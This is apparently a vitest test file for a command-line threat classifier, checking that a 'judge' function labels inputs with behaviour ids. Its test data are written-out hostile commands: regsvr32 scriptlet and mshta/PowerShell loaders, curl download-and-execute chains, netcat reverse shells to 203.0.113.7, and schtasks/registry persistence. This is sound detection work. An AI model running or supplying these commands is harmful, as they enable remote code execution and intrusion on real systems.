import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { resolve } from "../invocations/resolve.ts";
import { judge } from "./judge.ts";

const judged = (commandLine: string, platform: "windows" | "linux" = "windows") =>
  judge(resolve({ commandLine, platform, as: "typed" }, builtinCatalog()))?.behaviour.id;

describe("judge", () => {
  it.each([
    [
      "what runs within a wrapper",
      "cmd /c regsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll",
      "windows/regsvr32/scriptlet",
    ],
    [
      "a host of scripts without ordinary use whose script runs something milder",
      `mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc RwBlAHQALQBEAGEAdABlAA=="", 0:close")`,
      "windows/mshta/inline-vbscript",
    ],
    [
      "what is grave by itself within such a host",
      `mshta vbscript:CreateObject("Wscript.Shell").Run("regsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll",0,true)(window.close)`,
      "windows/regsvr32/scriptlet",
    ],
    [
      "who runs what another has fetched",
      "cmd /c curl -o %TEMP%\\a.exe http://203.0.113.7/a.exe & start %TEMP%\\a.exe",
      "windows/cmd/fetched-program",
    ],
    [
      "who runs the file that another makes of what it fetches",
      "cmd /c curl -o %TEMP%\\a.bat http://203.0.113.7/a.bat & %TEMP%\\a.bat",
      "windows/cmd/fetched-script",
    ],
    [
      "who runs what comes out of an archive that another has fetched",
      "cmd /c curl -o a.zip http://203.0.113.7/a.zip & tar -xf a.zip & start a.exe",
      "windows/cmd/fetched-program",
    ],
    [
      "the gravest command of a list, however deep the others lie",
      "cmd /c copy C:\\Windows\\System32\\curl.exe C:\\ProgramData\\u.exe & C:\\ProgramData\\u.exe -o C:\\ProgramData\\a.exe http://203.0.113.7/a.exe",
      "windows/curl/program-download",
    ],
  ])("tells of %s", (_, line, behaviour) => {
    expect(judged(line)).toBe(behaviour);
  });
});

it.each([
  "nc 203.0.113.7 4444 </tmp/p | sh >/tmp/p 2>&1",
  "mkfifo /tmp/p; cat /tmp/p | nohup sh -i 2>&1 | nc 203.0.113.7 4444 >/tmp/p",
])("tells of the connection that a shell is joined to, and of no file: %s", (line) => {
  expect(judged(line, "linux")).toBe("linux/sh/redirect-network");
});

it.each([
  ["curl -s http://203.0.113.7/a -o /tmp/x; chmod 755 /tmp/x; nohup /tmp/x", "linux/sh/fetched-program"],
  ["curl -s http://203.0.113.7/a -o /tmp/x; chmod 755 /tmp/x; sudo screen -dm /tmp/x", "linux/sh/fetched-program"],
  ["curl -s http://203.0.113.7/a -o /tmp/a.sh; sudo -n nohup bash /tmp/a.sh", "linux/sh/fetched-file"],
])("tells of where what runs comes from, whoever only starts it: %s", (line, behaviour) => {
  expect(judged(line, "linux")).toBe(behaviour);
});

it("judges a line that comes again once for each of its surroundings, however these are written", () => {
  const request = { commandLine: "regsvr32 /s C:\\Users\\Public\\a.dll", platform: "windows", as: "logged" } as const;
  const all = [
    {},
    { parent: "a" },
    { parent: "a|1|b" },
    { parent: "a", ancestors: ["b"] },
    { parent: "a", ancestors: ["b|1|c"] },
    { parent: "a", ancestors: ["b", "c"] },
    { parent: "undefined" },
    { ancestors: ["a"] },
    { ancestors: ["a", ""] },
    { byEngine: true },
  ];
  const judgedIn = (index: number, cwd?: string) => {
    // Others come between, so that it is not the answer of the moment.
    for (let i = 0; i < 32; i++) resolve({ commandLine: `plover.exe ${i}`, platform: "windows" }, builtinCatalog());
    return judge(resolve({ ...request, ...(cwd !== undefined && { cwd }) }, builtinCatalog()), all[index]);
  };
  for (let i = 0; i < 3; i++) judgedIn(0);
  const first = [...all.map((_, at) => judgedIn(at)), judgedIn(0, "D:\\"), judgedIn(1, "undefined")];
  const second = [...all.map((_, at) => judgedIn(at)), judgedIn(0, "D:\\"), judgedIn(1, "undefined")];
  expect(new Set(first).size).toBe(first.length);
  for (const [at, judgement] of first.entries()) expect(second[at]).toBe(judgement);
});

it.each([
  ["schtasks /create /tn k /sc minute /tr", "%appdata%\\kit\\a.bat"],
  ["reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v k /d", "C:\\Users\\Public\\a.bat"],
  ["wmic process call create", "C:\\Users\\Public\\a.bat"],
  ["forfiles /p C:\\kit /m k.txt /c", "C:\\Users\\Public\\a.bat"],
])("takes a shell between a program and what runs for no excuse: %s", (before, program) => {
  const told = (line: string) => judge(resolve({ commandLine: line, platform: "windows" }, builtinCatalog()));
  const through = told(`${before} "cmd /c ${program}"`);
  expect(through?.invocation.depth).toBe(0);
  expect(through?.scored.level).toBe(told(`${before} "${program}"`)?.scored.level);
});
